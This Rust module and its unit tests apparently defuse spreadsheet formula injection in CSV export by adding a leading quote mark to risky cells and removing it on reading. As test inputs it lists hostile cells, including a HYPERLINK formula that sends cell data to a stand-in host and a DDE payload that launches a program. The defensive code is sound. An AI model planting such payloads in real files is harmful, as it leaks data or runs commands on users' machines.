//! CSV cells a spreadsheet would run as a formula, defused with a leading `'` on writing and
//! restored on reading, so that a title like `=HYPERLINK(…)` from the log opens as text and a
//! file the app wrote reads back to the same values.
//!
//! A cell is defused when it starts with `=`, `+`, `-`, `@`, a tab or a carriage return (OWASP's
//! list), unless it is a plain number (`-3`, `+12.5%`, `1 204`), which no spreadsheet runs. So that
//! the round trip loses nothing, a cell that already looks defused (`'=x`) gets a `'` too: reading
//! removes exactly one `'` from a cell that is `'` followed by a defused cell.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell as it is written to a CSV file: with a leading `'` when a spreadsheet would run it.
pub fn defuse(cell: &str) -> Cow<'_, str> {
    if needs_quote_mark(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The cell as it was before [`defuse`]: one leading `'` removed where `defuse` added it.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_quote_mark(rest) => rest,
        _ => cell,
    }
}

/// Whether [`defuse`] adds a `'`: a formula start, or a `'` before a cell that needs one.
fn needs_quote_mark(cell: &str) -> bool {
    match cell.chars().next() {
        Some(first) if FORMULA_STARTS.contains(&first) => !is_plain_number(cell),
        Some('\'') => needs_quote_mark(&cell[1..]),
        _ => false,
    }
}

/// `-3`, `+12.5`, `-1 204,5 %`: a sign, digits, separators and an optional percent sign.
fn is_plain_number(cell: &str) -> bool {
    let Some(rest) = cell.strip_prefix(['+', '-']) else {
        return false;
    };
    let rest = rest.trim_end_matches('%').trim_end();
    rest.starts_with(|c: char| c.is_ascii_digit())
        && rest
            .chars()
            .all(|c| c.is_ascii_digit() || matches!(c, '.' | ',' | ' ' | '\u{a0}' | '\u{202f}'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_get_a_quote_mark_and_plain_text_does_not() {
        let cases = [
            (r#"=HYPERLINK("http://evil.example/?"&A2,"open")"#, true),
            ("@SUM(A1)", true),
            ("+cmd|' /C calc'!A0", true),
            ("-2+3", true),
            ("\tx", true),
            ("\rx", true),
            ("'=x", true),
            ("''@x", true),
            ("-", true),
            ("-3", false),
            ("+12.5 %", false),
            ("-1 204,5", false),
            ("alice", false),
            ("a=b", false),
            ("'quoted'", false),
            ("", false),
        ];
        for (cell, defused) in cases {
            let written = defuse(cell);
            assert_eq!(
                written.starts_with('\'') && written != cell,
                defused,
                "{cell:?}"
            );
            if defused {
                assert_eq!(written, format!("'{cell}"));
            }
        }
    }

    #[test]
    fn reading_restores_what_writing_defused() {
        for cell in [
            "=1+1", "'=1+1", "''=1+1", "@a", "-3", "-x", "'", "''", "'x", "plain", "'-3", "",
        ] {
            assert_eq!(restore(&defuse(cell)), cell, "{cell:?}");
        }
        // A cell the app did not defuse keeps its quote mark.
        assert_eq!(restore("'hello"), "'hello");
    }
}
